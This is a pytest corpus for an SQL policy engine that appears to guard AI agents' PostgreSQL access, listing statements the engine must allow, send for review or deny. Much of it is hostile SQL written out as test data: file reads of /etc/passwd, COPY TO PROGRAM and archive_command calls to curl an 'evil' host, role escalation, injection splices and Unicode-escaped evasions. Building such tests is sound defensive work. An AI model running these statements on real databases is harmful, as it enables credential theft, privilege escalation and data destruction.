"""The table-driven corpus: every statement the engine must see through, with disguises and false positives.

Each row is (sql, expected action[, a fragment that must appear in the reasons]). The policy is
tests/test_policy_helpers.AGENTS_POLICY: orders readable (writes reviewed, WHERE required),
audit_scratch read/write with WHERE required, customers denied outright, temp tables allowed,
statementTimeout 30s. Denied rows are reused by the live proxy tests.
"""

from __future__ import annotations

import pytest
from test_policy_helpers import agent

from pgwarden.policy import SessionState

A, R, D = "allow", "review", "deny"

READS = [
    ("SELECT * FROM orders", A),
    ("select * from ORDERS", A),
    ('SELECT * FROM "orders"', A),
    ("SELECT * FROM public.orders", A),
    ('SELECT * FROM "Orders"', D, 'public."Orders"'),
    ("SELECT * FROM customers", D, "no-pii"),
    ('SELECT * FROM "public"."customers"', D),
    ('SELECT * FROM U&"cust\\006fmers"', D, "public.customers"),
    ("SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id", D),
    ("SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers)", D),
    ("SELECT (SELECT email FROM customers LIMIT 1)", D),
    ("SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM customers c WHERE c.ssn LIKE '1%')", D),
    ("SELECT * FROM customer_contacts", A),
    ("TABLE orders", A),
    ("TABLE customers", D),
    ("SELECT 1", A),
    ("VALUES (1), (2)", A),
    ("", A),
    ("-- only a comment", A),
    ("SELECT * FROM orders UNION ALL SELECT * FROM customers", D),
    ("SELECT * FROM orders, LATERAL (SELECT * FROM customers) c", D),
    ("SELECT * FROM ONLY orders", A),
    ("SELECT * FROM orders TABLESAMPLE SYSTEM (10)", A),
    ("SELECT * FROM unknown_table", D, "defaultAction"),
]

CTES = [
    ("WITH customers AS (SELECT 1 AS id) SELECT * FROM customers", A),
    ("WITH x AS (SELECT * FROM customers) SELECT * FROM x", D),
    ("WITH orders AS (SELECT * FROM customers) SELECT * FROM orders", D),
    # the inner WITH's name is not visible outside its subquery
    ("SELECT * FROM (WITH customers AS (SELECT 1 AS id) SELECT id FROM customers) a JOIN customers USING (id)", D),
    # a non-recursive CTE body does not see its own name: that is the real table
    ("WITH customers AS (SELECT * FROM customers) SELECT 1", D),
    ("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t", A),
    ("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", A),
    ("(WITH c AS (SELECT 1) SELECT * FROM c) UNION SELECT id FROM customers", D),
]

DML = [
    ("INSERT INTO audit_scratch (payload) VALUES ('x')", A),
    ("INSERT INTO audit_scratch (payload) VALUES ('x') RETURNING id", A),
    ("UPDATE audit_scratch SET payload = NULL", D, "without a WHERE"),
    ("UPDATE audit_scratch SET payload = NULL WHERE true", D, "without a WHERE"),
    ("UPDATE audit_scratch SET payload = NULL WHERE 1 = 1", D, "without a WHERE"),
    ("UPDATE audit_scratch SET payload = NULL WHERE id = 1", A),
    ("DELETE FROM audit_scratch", D, "without a WHERE"),
    ("DELETE FROM audit_scratch WHERE id > 3", A),
    ("DELETE FROM orders WHERE id = 1", R, "order-changes"),
    ("DELETE FROM orders", D, "without a WHERE"),
    ("DELETE FROM customers WHERE id = 1", D),
    ("UPDATE orders SET status = 'x' WHERE id = 1", R),
    ("UPDATE orders SET status = (SELECT email FROM customers LIMIT 1) WHERE id = 1", D),
    ("UPDATE audit_scratch SET payload = c.email FROM customers c WHERE c.id = audit_scratch.id", D),
    ("DELETE FROM audit_scratch USING customers c WHERE c.id = audit_scratch.id", D),
    ("WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", R),
    ("WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT 1", D),
    ("WITH d AS (UPDATE audit_scratch SET payload = '' RETURNING *) SELECT * FROM d", D, "without a WHERE"),
    ("INSERT INTO audit_scratch (payload) SELECT email FROM customers", D),
    ("INSERT INTO audit_scratch (payload) SELECT status FROM orders", A),
    # a subscript of a target column is an expression the server evaluates
    ("INSERT INTO audit_scratch (payload[(SELECT count(*) FROM customers)]) VALUES ('x')", D,
     "select on public.customers"),
    ("INSERT INTO orders (customer_id, total_cents) SELECT customer_id, total_cents FROM orders", R),
    ("INSERT INTO customers (name) VALUES ('x')", D),
    ("INSERT INTO audit_scratch (id, payload) VALUES (1, 'x') "
     "ON CONFLICT (id) DO UPDATE SET payload = excluded.payload", A),
    ("INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET status = 'x'", R),
    ("MERGE INTO orders o USING audit_scratch s ON o.id = s.id "
     "WHEN MATCHED THEN UPDATE SET status = s.payload WHEN NOT MATCHED THEN DO NOTHING", R),
    ("MERGE INTO audit_scratch t USING orders o ON t.id = o.id WHEN MATCHED THEN DELETE", D, "merge on public.audit_scratch"),
    ("MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE", D),
    ("TRUNCATE audit_scratch", D),
    ("TRUNCATE orders CASCADE", D, "(any table)"),
]

LOCKS_AND_NEW_TABLES = [
    ("SELECT * FROM orders FOR UPDATE", D, "lock on public.orders"),
    ("SELECT * FROM orders FOR KEY SHARE SKIP LOCKED", D, "lock"),
    ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", D),
    ("SELECT * INTO TEMP t FROM orders", A),
    ("SELECT * INTO scratch FROM orders", D, "ddl on public.scratch"),
    ("CREATE TABLE x AS SELECT * FROM orders", D, "ddl"),
    ("CREATE TEMP TABLE t AS SELECT * FROM customers", D),
    ("CREATE TEMP TABLE t AS SELECT * FROM orders", A),
    ("CREATE TEMP TABLE t (id int)", A),
    ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM orders", D),
]

EXPLAIN = [
    ("EXPLAIN DELETE FROM audit_scratch", A),  # planned, not run: a read
    ("EXPLAIN SELECT * FROM customers", D),
    ("EXPLAIN ANALYZE DELETE FROM audit_scratch", D, "without a WHERE"),
    ("EXPLAIN (ANALYZE) DELETE FROM orders WHERE id = 1", R),
    ("explain analyse delete from orders where id = 1", R),
    ("EXPLAIN (FORMAT JSON, ANALYZE 1) DELETE FROM orders WHERE id = 1", R),
    ("EXPLAIN (ANALYZE false) DELETE FROM orders WHERE id = 1", A),
    ("EXPLAIN (ANALYZE off, VERBOSE) UPDATE orders SET status = 'x' WHERE id = 1", A),
    ("EXPLAIN (ANALYZE TRUE, BUFFERS) WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING 1) SELECT * FROM d", R),
    ("EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", D),
    ("EXPLAIN SELECT pg_read_file('/etc/passwd')", D),
]

COPY = [
    ("COPY orders TO STDOUT", A),
    ("COPY orders (id, status) TO STDOUT WITH (FORMAT csv, HEADER)", A),
    ("COPY customers TO STDOUT", D),
    ("COPY (SELECT * FROM customers) TO STDOUT", D),
    ("COPY (SELECT * FROM orders) TO STDOUT WITH (FORMAT csv)", A),
    ("COPY audit_scratch FROM STDIN", A),
    ("COPY orders FROM STDIN", R),
    ("COPY orders TO '/tmp/orders.csv'", D, "server file"),
    ("COPY audit_scratch FROM '/etc/passwd'", D, "server file"),
    ("COPY audit_scratch FROM PROGRAM 'id'", D, "a program"),
    ("COPY (SELECT 1) TO PROGRAM 'curl http://x'", D, "a program"),
    ("COPY (DELETE FROM orders WHERE id = 1 RETURNING *) TO STDOUT", R),
]

OPAQUE = [
    ("DO $$ BEGIN DELETE FROM orders; END $$", D, "DO"),
    ("do language plpgsql $x$ begin perform 1; end $x$", D),
    ("CALL refresh_everything()", D, "CALL"),
    ("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", D, "CREATE FUNCTION"),
    ("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM orders $$", D),
    ("ALTER FUNCTION f() SECURITY DEFINER", D),
    ("CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)", D, "binds functions"),
    ("CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)", D),
    ("CREATE CAST (int AS text) WITH FUNCTION f(int)", D),
    ("CREATE LANGUAGE plpython3u", D),
    ("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", D),
]

FUNCTIONS = [
    ("SELECT upper(status) FROM orders", A),
    ("SELECT pg_catalog.upper(status) FROM orders", A),
    ("SELECT public.upper(status) FROM orders", D, "public.upper"),
    ('SELECT "UPPER"(status) FROM orders', D, "allowlist"),
    ("SELECT count(*), sum(total_cents), now(), date_trunc('day', created_at) FROM orders GROUP BY 3, 4", A),
    ("SELECT row_number() OVER (ORDER BY id), lag(total_cents) OVER w FROM orders WINDOW w AS (ORDER BY id)", A),
    ("SELECT to_jsonb(o), jsonb_build_object('a', 1) ->> 'a', coalesce(NULL, 1), greatest(1, 2) FROM orders o", A),
    ("SELECT id::text, CAST(total_cents AS numeric) / 100, EXTRACT(year FROM created_at) FROM orders", A),
    ("SELECT * FROM generate_series(1, 3)", A),
    ("SELECT regexp_replace(status, '^n', 'N'), format('%s', id), md5(status) FROM orders", A),
    ("SELECT current_setting('search_path'), version(), current_user, pg_backend_pid()", A),
    ("SELECT xpath('/a', '<a/>'::xml)", A),
    ("SELECT pg_read_file('/etc/passwd')", D, "reads files"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", D, "reads files"),
    ('SELECT "pg_read_file"(\'/etc/passwd\')', D, "reads files"),
    ('SELECT U&"pg_read\\005ffile"(\'/etc/passwd\')', D, "reads files"),
    ("SELECT pg_read_binary_file('/etc/passwd')", D),
    ("SELECT * FROM pg_ls_dir('.')", D),
    ("SELECT pg_stat_file('postgresql.conf')", D),
    ("SELECT lo_import('/etc/passwd')", D, "large objects"),
    ("SELECT lo_get(1)", D),
    ("SELECT pg_terminate_backend(1)", D, "signals"),
    ("SELECT pg_cancel_backend(1)", D),
    ("SELECT pg_reload_conf()", D),
    ("SELECT pg_rotate_logfile()", D),
    ("SELECT dblink('host=evil', 'select 1')", D, "other databases"),
    ("SELECT public.dblink_connect('host=evil')", D),
    ("SELECT pg_advisory_lock(1)", D, "allowedFunctions"),
    ("SELECT pg_try_advisory_xact_lock(1)", D),
    ("SELECT pg_sleep(1)", A),  # the policy sets statementTimeout
    ("SELECT query_to_xml('select * from customers', true, true, '')", D, "cannot see"),
    ("SELECT table_to_xml('customers', true, true, '')", D),
    ("SELECT cursor_to_xml('c', 1, true, true, '')", D),
    ("SELECT database_to_xml(true, true, '')", D),
    ("SELECT ts_stat('select tsv from t')", D),
    ("SELECT set_config('role', 'postgres', false)", D, "who the session is"),
    ("SELECT pg_catalog.set_config('session_authorization', 'postgres', false)", D),
    ("SELECT set_config('search_path', 'evil', false)", D, "search_path"),
    ("SELECT set_config('application_name', 'agent', false)", A),
    ("SELECT set_config('statement_timeout', '0', false)", D, "statementTimeout"),
    ("SELECT set_config('statement_timeout', '5s', true)", A),
    ("SELECT set_config(name, 'x', false) FROM (SELECT 'role' AS name) s", D, "literal setting name"),
    ("SELECT set_config('app.tenant', '5', false)", D),
    ("SELECT public.order_total(1)", A),
    ("SELECT order_total(1)", A),
    ("SELECT reporting.order_total(1)", D),
    ("SELECT nextval('orders_id_seq')", A),
    ("SELECT nextval('\"orders_id_seq\"'::regclass)", A),
    ("SELECT nextval('public.orders_id_seq'), currval('orders_id_seq'), lastval()", A),
    ("SELECT setval('orders_id_seq', 1)", A),
    ("SELECT nextval('customers_id_seq')", D, "update on public.customers_id_seq"),
    ("SELECT nextval(status) FROM orders", D, "literal sequence name"),
    ("SELECT nextval(16384)", D),
    ("SELECT pg_notify('ch', 'payload')", D, "notify"),
    ("SELECT 1 OPERATOR(public.+) 1", D, "operator"),
    ("SELECT 1 OPERATOR(pg_catalog.+) 1", A),
    ("SELECT 1 === 1", D, "not a PostgreSQL operator"),
    # operators outside A_Expr: a sublink's comparison and ORDER BY … USING
    ("SELECT * FROM orders WHERE id OPERATOR(public.=) ANY (SELECT 1)", D, "operator public.="),
    ("SELECT * FROM orders WHERE id === ALL (SELECT 1)", D, "not a PostgreSQL operator"),
    ("SELECT * FROM orders ORDER BY id USING OPERATOR(public.<)", D, "operator public.<"),
    ("SELECT * FROM orders ORDER BY id USING <<<", D, "not a PostgreSQL operator"),
    ("SELECT * FROM orders WHERE id OPERATOR(pg_catalog.=) ANY (SELECT 1) ORDER BY id USING <", A),
    ("SELECT pg_stat_get_backend_activity(1)", D, "pg_catalog.pg_stat_get_backend_activity"),
    ("SELECT pg_catalog.pg_stat_get_backend_activity(1)", D),
    ("SELECT * FROM orders WHERE status ~* 'x' AND id BETWEEN 1 AND 5 AND status IS DISTINCT FROM 'y'", A),
]

SESSION = [
    ("SET ROLE postgres", D, "who the session is"),
    ("set role none", D),
    ('SET "role" TO postgres', D),
    ("SET LOCAL ROLE postgres", D),
    ("SET SESSION AUTHORIZATION postgres", D),
    ("SET SESSION AUTHORIZATION DEFAULT", D),
    ("RESET ROLE", D),
    ("RESET SESSION AUTHORIZATION", D),
    ("RESET ALL", D),
    ("SET search_path = evil, public", D, "search_path"),
    ("SET SCHEMA 'evil'", D),
    ("SET LOCAL search_path TO evil", D),
    ("SET application_name = 'agent'", A),
    ("SET TIME ZONE 'UTC'", A),
    ("SET DateStyle TO ISO, DMY", A),
    ("SET extra_float_digits = 3", A),
    ("SET statement_timeout = '10s'", A),
    ("SET LOCAL statement_timeout = 5000", A),
    ("SET statement_timeout = 0", D, "statementTimeout"),
    ("SET statement_timeout = '1h'", D),
    ("RESET statement_timeout", D),
    ("SET statement_timeout TO DEFAULT", D),
    ("SET client_encoding = 'SJIS'", D, "UTF8"),
    ("SET NAMES 'UTF8'", A),
    ("SET standard_conforming_strings = off", D),
    ("SET app.tenant_id = 5", D),
    ("SET session_replication_role = replica", D),
    ("SHOW search_path", A),
    ("SHOW ALL", A),
    ("DISCARD ALL", D),
    ("DISCARD PLANS", A),
    ("DISCARD TEMP", A),
]

TRANSACTIONS_AND_CURSORS = [
    ("BEGIN", A),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY", A),
    ("COMMIT", A),
    ("ROLLBACK", A),
    ("SAVEPOINT a", A),
    ("RELEASE SAVEPOINT a", A),
    ("ROLLBACK TO SAVEPOINT a", A),
    ("END", A),
    ("ABORT", A),
    ("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ", A),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", A),
    ("SET CONSTRAINTS ALL DEFERRED", A),
    ("PREPARE TRANSACTION 'x'", D, "two-phase"),
    ("COMMIT PREPARED 'x'", D),
    ("ROLLBACK PREPARED 'x'", D),
    ("DECLARE c CURSOR FOR SELECT * FROM orders", A),
    ("DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT * FROM customers", D),
    ("DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE", D, "lock"),
    ("FETCH 10 FROM c", A),
    ("FETCH ALL IN c", A),
    ("MOVE NEXT IN c", A),
    ("CLOSE c", A),
    ("CLOSE ALL", A),
    ("DEALLOCATE ALL", A),
    ("UNLISTEN *", A),
]

DDL_AND_ADMIN = [
    ("DROP TABLE orders", D, "ddl on public.orders"),
    ("DROP TABLE IF EXISTS audit_scratch, orders CASCADE", D),
    ("CREATE TABLE x (id int)", D),
    ("CREATE TABLE x (id int DEFAULT nextval('customers_id_seq'))", D),
    ("CREATE TEMP TABLE t (id int DEFAULT length(pg_read_file('/etc/passwd')))", D, "reads files"),
    ("CREATE TEMP TABLE t () INHERITS (orders)", D, "ddl on public.orders"),
    ("CREATE TEMP TABLE t (LIKE customers)", D),
    ("ALTER TABLE orders ADD COLUMN note text", D),
    ("ALTER TABLE orders OWNER TO app", D, "grant"),
    ("ALTER TABLE orders DISABLE ROW LEVEL SECURITY", D, "grant"),
    ("ALTER TABLE orders RENAME TO orders_old", D),
    ("CREATE INDEX ON orders (status)", D),
    ("CREATE VIEW v AS SELECT * FROM customers", D),
    ("CREATE SCHEMA s", D),
    ("CREATE SCHEMA s CREATE TABLE t (id int)", D),
    ("DROP SCHEMA public CASCADE", D, "(any table)"),
    ("COMMENT ON TABLE orders IS 'x'", D),
    ("CREATE TRIGGER tr BEFORE INSERT ON audit_scratch FOR EACH ROW EXECUTE FUNCTION evil()", D),
    ("CREATE RULE r AS ON INSERT TO audit_scratch DO ALSO DELETE FROM orders", D),
    ("CREATE POLICY p ON orders USING (true)", D, "grant"),
    ("GRANT SELECT ON customers TO PUBLIC", D, "grant on public.customers"),
    ("GRANT ALL ON ALL TABLES IN SCHEMA public TO app", D, "grant on public.*"),
    ("REVOKE ALL ON orders FROM app", D),
    ("GRANT shop_writer TO app", D, "role"),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC", D),
    ("CREATE ROLE x SUPERUSER LOGIN PASSWORD 'x'", D, "role"),
    ("ALTER ROLE app SUPERUSER", D),
    ("ALTER ROLE app SET search_path = evil", D),
    ("DROP ROLE app", D),
    ("ALTER SYSTEM SET archive_command = 'curl http://evil'", D, "ALTER SYSTEM"),
    ("CREATE EXTENSION dblink", D, "extension"),
    ("DROP EXTENSION plpgsql", D, "extension"),
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", D, "other servers"),
    ("CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'x')", D),
    ("CREATE DATABASE evil", D),
    ("CREATE TABLESPACE t LOCATION '/tmp'", D),
    ("CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", D),
    ("SECURITY LABEL ON TABLE orders IS 'x'", D),
    ("LOAD '/tmp/evil.so'", D, "LOAD"),
    ("LISTEN ch", D, "listen"),
    ("NOTIFY ch, 'hello'", D, "notify"),
    ("VACUUM orders", D, "maintenance"),
    ("VACUUM FULL", D),
    ("ANALYZE", D),
    ("ANALYZE orders", D),
    ("REINDEX TABLE orders", D),
    ("REINDEX SCHEMA public", D),
    ("CLUSTER orders USING orders_pkey", D),
    ("REFRESH MATERIALIZED VIEW mv", D),
    ("CHECKPOINT", D, "maintenance"),
    ("ALTER TYPE t SET (RECEIVE = f)", D),
    ("CREATE TYPE r AS RANGE (subtype = int, subtype_diff = f)", D),
    ("CREATE FOREIGN TABLE ft (id int) SERVER s", D),
    ("REASSIGN OWNED BY app TO postgres", D),
]

CATALOGS = [
    ("SELECT * FROM pg_class", A),
    ("SELECT relname FROM pg_catalog.pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace", A),
    ("SELECT * FROM information_schema.tables", A),
    ("SELECT * FROM information_schema.columns WHERE table_name = 'orders'", A),
    ("SELECT * FROM pg_authid", D, "password hashes"),
    ("SELECT rolpassword FROM pg_catalog.pg_authid", D),
    ('SELECT * FROM "pg_shadow"', D),
    ("SELECT * FROM pg_user_mappings", D),
    ("SELECT * FROM information_schema.user_mapping_options", D),
    ("SELECT * FROM pg_statistic", D),
    ("SELECT * FROM pg_largeobject", D),
    ("SELECT * FROM pg_stats WHERE tablename = 'customers'", D),
    ("SELECT query FROM pg_stat_activity", D),
    ("UPDATE pg_class SET relname = 'x' WHERE oid = 1", D),
    # psql 15 \d orders
    ("SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n "
     "ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(orders)$' COLLATE pg_catalog.default "
     "AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3;", A),
    # psql 15 \dt
    ("SELECT n.nspname as \"Schema\", c.relname as \"Name\", CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' "
     "THEN 'view' END as \"Type\", pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\" FROM pg_catalog.pg_class c "
     "LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace LEFT JOIN pg_catalog.pg_am am ON am.oid = "
     "c.relam WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' "
     "AND n.nspname <> 'information_schema' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;", A),
    # psql 15 \d orders, columns part
    ("SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), (SELECT pg_catalog.pg_get_expr(d.adbin, "
     "d.adrelid, true) FROM pg_catalog.pg_attrdef d WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND "
     "a.atthasdef), a.attnotnull, (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t WHERE "
     "c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation, "
     "a.attidentity, a.attgenerated FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16385' AND a.attnum > 0 "
     "AND NOT a.attisdropped ORDER BY a.attnum;", A),
]

UNPARSEABLE_AND_SPLICES = [
    ("SELEC 1", D, "syntax error"),
    ("SELECT 1; SELEC 2", D, "syntax error"),
    ("SELECT 'unterminated", D, "does not parse"),
    ("SELECT 1\x00; DROP TABLE orders", D, "NUL"),
    ("SELECT 1; DROP TABLE orders", D, "ddl on public.orders"),
    ("SELECT * FROM orders;DELETE FROM customers", D),
    ("SELECT 1/*;*/; DELETE FROM audit_scratch", D, "without a WHERE"),
    ("SELECT $$;$$; DROP TABLE orders", D),
    ("SELECT 1 /* nested /* comment */ still comment */; DROP TABLE orders", D),
    ("SELECT * FROM orders; SELECT * FROM orders WHERE id = 1", A),
    ("BEGIN; DELETE FROM orders WHERE id = 1; COMMIT", R),
    ("BEGIN; SET ROLE postgres; COMMIT", D),
]

DISGUISES = [
    ("DeLeTe FrOm CuStOmErS WHERE id = 1", D),
    ("delete\n\tfrom\n  customers   where id=1", D),
    ("DELETE/**/FROM/**/customers/**/WHERE/**/id=1", D),
    ('DELETE FROM "customers" WHERE id = 1', D),
    ('DELETE FROM U&"\\0063ustomers" WHERE id = 1', D, "public.customers"),
    ("DELETE FROM U&\"!0063ustomers\" UESCAPE '!' WHERE id = 1", D, "public.customers"),
    ("/* hello */ DROP /* x */ TABLE -- y\n orders", D),
    ("SELECT 1 /* outer /* inner */ DROP TABLE orders */", A),  # all of it is a comment
    ('SET "ROLE" TO postgres', D),
    ("SeT rOlE postgres", D),
    ('SELECT "pg_catalog"."pg_read_file"(\'x\')', D),
    ("SELECT PG_READ_FILE('x')", D),
]

FALSE_POSITIVES = [
    ("SELECT 1 -- DROP TABLE orders", A),
    ("SELECT 1 /* DELETE FROM customers */", A),
    ("SELECT 'DELETE FROM customers' FROM orders", A),
    ("SELECT 'SET ROLE postgres; DROP TABLE orders'", A),
    ("SELECT * FROM orders WHERE status = 'pg_read_file(''/etc/passwd'')'", A),
    ("SELECT $x$ DROP TABLE orders; $x$", A),
    ("SELECT $a$ $b$ ; DROP TABLE orders $b$ $a$", A),
    ("SELECT E'\\'; DROP TABLE orders; --'", A),
    ("SELECT E'\\x27; DELETE FROM customers'", A),
    ("INSERT INTO audit_scratch (payload) VALUES ('; DROP TABLE orders; --')", A),
    ("SELECT * FROM orders WHERE status = E'\\'' OR id = 1", A),
    ("SELECT status AS customers FROM orders", A),
    ('SELECT id AS "DELETE" FROM orders', A),
    ("SELECT * FROM orders WHERE status = U&'d\\0065lete'", A),
]

CORPUS = [
    *READS, *CTES, *DML, *LOCKS_AND_NEW_TABLES, *EXPLAIN, *COPY, *OPAQUE, *FUNCTIONS, *SESSION,
    *TRANSACTIONS_AND_CURSORS, *DDL_AND_ADMIN, *CATALOGS, *UNPARSEABLE_AND_SPLICES, *DISGUISES, *FALSE_POSITIVES,
]
DENIED = [row[0] for row in CORPUS if row[1] == D]

_SUBJECT = agent()


@pytest.mark.parametrize("row", CORPUS, ids=[repr(r[0])[:70] for r in CORPUS])
def test_corpus(row):
    sql, expected = row[0], row[1]
    d = _SUBJECT.decide(sql, SessionState())
    assert d.action == expected, (d.message, d.reasons, d.accesses)
    if len(row) > 2:
        text = " ".join(d.reasons) + " " + d.message + " " + " ".join(f"{a[0]} on {a[1]}" for a in d.accesses)
        assert row[2] in text, (d.reasons, d.accesses)
    if expected == D:
        assert d.sqlstate == "42501" and d.enforce
    elif expected == R:
        assert d.sqlstate == "PW001" and d.approval is not None


def test_corpus_is_large_and_balanced():
    assert len(CORPUS) > 250
    assert len(DENIED) > 120
    assert sum(1 for r in CORPUS if r[1] == A) > 90
